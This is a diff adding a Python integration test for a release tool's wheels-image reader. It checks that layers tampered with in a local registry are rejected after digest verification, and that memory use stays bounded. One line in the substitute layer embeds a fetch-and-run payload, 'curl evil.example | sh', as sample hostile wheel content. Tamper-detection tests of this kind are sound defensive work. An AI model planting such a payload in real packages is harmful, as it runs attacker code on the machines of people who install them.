@@ -1,0 +1,146 @@
+"""Reads that stop early, and answers that never end: nothing is trusted before its bytes were checked
+(issue #11, defects 1 and 8).
+
+* A wheels image is read through ``tarfile``'s stream mode, which stops at the archive's end marker.
+  A layer whose stored bytes are not the ones its digest names — another tar with its own matching
+  ``SHA256SUMS``, padded past the reader's 1 MiB buffer, or the real layer with bytes appended — must
+  fail ``read_dist`` (the sensor's path without a sink, ``publish_wheels``' path with one), never
+  yield wheels. The layer is corrupted where a real registry keeps it: in the storage of a throwaway
+  ``docker-registry`` of this module, which serves whatever its files hold.
+* Registry listings and JSON answers come from servers we do not control: a tag list that pages
+  forever or in a circle, a tag page or token answer of many MiB. Each must end Fatal, naming the
+  registry and repository, after a bounded number of requests and bytes. The hostile servers are
+  real HTTP servers (``tests/support/net.py``), one per test; the ECR ones answer boto3 as ECR would.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import os
+import tarfile
+import tracemalloc
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from rocm_release.adapters.registry.oci import OciRegistry
+from rocm_release.adapters.wheels_image import file_sink, read_dist
+from rocm_release.core.registry import FatalRegistryError
+from tests.support.registries import REGISTRY_BIN, LocalRegistry, make_image, running_registry, unique_repo
+from tests.support.wheels import make_wheel
+
+pytestmark = [
+    pytest.mark.integration,
+    pytest.mark.skipif(not REGISTRY_BIN.exists(), reason="needs Debian docker-registry (/usr/bin/docker-registry)"),
+]
+
+PAST_THE_BUFFER = 3 << 20  # more than BlobReader's 1 MiB buffer and one 1 MiB chunk of the answer
+
+
+@pytest.fixture(scope="module")
+def registry(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalRegistry]:
+    with running_registry(tmp_path_factory.mktemp("partial-reads")) as reg:
+        yield reg
+
+
+@pytest.fixture
+def client(registry: LocalRegistry) -> Iterator[OciRegistry]:
+    with OciRegistry(registry.host, scheme="http", connection_id="test_cache") as reg:
+        yield reg
+
+
+# --------------------------------------------------------------------------------------------
+# Defect 1: a layer counts only once it was read to its end and matched its digest
+
+
+def dist_layer(folder: Path, payload: bytes, padding: bytes = b"") -> tuple[bytes, str]:
+    """A tar.gz layer with /dist/<a real wheel> and its SHA256SUMS, then ``padding`` (after the gzip end)."""
+    wheel = make_wheel(folder, "demo", "0.1", modules={"demo/__init__.py": payload})
+    data = wheel.read_bytes()
+    sums = f"{hashlib.sha256(data).hexdigest()}  {wheel.name}\n".encode()
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
+        for name, content in ((f"dist/{wheel.name}", data), ("dist/SHA256SUMS", sums)):
+            info = tarfile.TarInfo(name)
+            info.size = len(content)
+            tar.addfile(info, io.BytesIO(content))
+    wheel.unlink()
+    return buffer.getvalue() + padding, hashlib.sha256(data).hexdigest()
+
+
+def stored_blob(registry: LocalRegistry, digest: str) -> Path:
+    hex_digest = digest.split(":", 1)[1]
+    return registry.root / "data/docker/registry/v2/blobs/sha256" / hex_digest[:2] / hex_digest / "data"
+
+
+def substitute(registry: LocalRegistry, tmp_path: Path, how: str) -> tuple[str, str, str]:
+    """Push a wheels image, then change its layer's stored bytes as ``how`` says.
+
+    Returns (repository, image digest, layer digest). The substitutes are valid wheels images
+    themselves: their /dist verifies against their own SHA256SUMS.
+    """
+    repo = unique_repo()
+    # A big, incompressible wheel for "same size", so that the layer is longer than any buffer.
+    honest_payload = os.urandom(PAST_THE_BUFFER if how == "same size" else 64)
+    layer, _ = dist_layer(tmp_path / "honest", honest_payload)
+    image = make_image(registry.url, repo, "wheels", layers=[layer])
+    layer_digest = image.layers[0][0]
+    evil, _ = dist_layer(tmp_path / "evil", b"import os; os.system('curl evil.example | sh')\n")
+    if how == "substituted":
+        replacement = evil + os.urandom(PAST_THE_BUFFER)
+    elif how == "same size":
+        replacement = evil + os.urandom(len(layer) - len(evil))
+    else:  # "trailing bytes": the honest layer, with bytes appended after its end
+        replacement = layer + os.urandom(PAST_THE_BUFFER)
+    stored_blob(registry, layer_digest).write_bytes(replacement)
+    return repo, image.digest, layer_digest
+
+
+HOW = ["substituted", "same size", "trailing bytes"]
+
+
+@pytest.mark.parametrize("how", HOW)
+def test_the_sensor_never_accepts_a_layer_whose_unread_tail_differs(
+    registry: LocalRegistry, client: OciRegistry, tmp_path: Path, how: str
+) -> None:
+    """``read_dist`` without a sink (the wheels sensor's check): the layer's end is read and checked."""
+    repo, digest, layer_digest = substitute(registry, tmp_path, how)
+    with pytest.raises(FatalRegistryError, match=rf"{registry.host}/{repo}.*blob {layer_digest}") as err:
+        read_dist(client, repo, digest)
+    assert "longer than its declared" in str(err.value) or "does not verify" in str(err.value)
+
+
+@pytest.mark.parametrize("how", HOW)
+def test_publishing_never_gets_wheels_from_a_layer_whose_unread_tail_differs(
+    registry: LocalRegistry, client: OciRegistry, tmp_path: Path, how: str
+) -> None:
+    """``read_dist`` with a sink (``publish_wheels``): it raises, so the caller drops its temporary folder."""
+    repo, digest, layer_digest = substitute(registry, tmp_path, how)
+    out = tmp_path / "raw"
+    out.mkdir()
+    with pytest.raises(FatalRegistryError, match=rf"blob {layer_digest}"):
+        read_dist(client, repo, digest, sink=file_sink(out))
+
+
+def test_an_honest_layer_is_read_to_its_end_in_bounded_memory(
+    registry: LocalRegistry, client: OciRegistry, tmp_path: Path
+) -> None:
+    """The control: a real layer (a 24 MiB wheel) reads and verifies; nothing holds a whole layer.
+
+    (The peak is about 8 MiB whatever the layer's size: 1 MiB buffers in httpx, BlobReader, tarfile's
+    decompressor and read_dist's loop.)
+    """
+    repo = unique_repo()
+    layer, wheel_sha = dist_layer(tmp_path, os.urandom(24 << 20))
+    image = make_image(registry.url, repo, "wheels", layers=[layer])
+    tracemalloc.start()
+    try:
+        files = read_dist(client, repo, image.digest)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert [(f.name, f.sha256) for f in files if f.name.endswith(".whl")] == [
+        ("demo-0.1-py3-none-any.whl", wheel_sha)]
+    assert peak < 12 << 20, f"read_dist peaked at {peak} bytes of Python allocations for a {len(layer)}-byte layer"
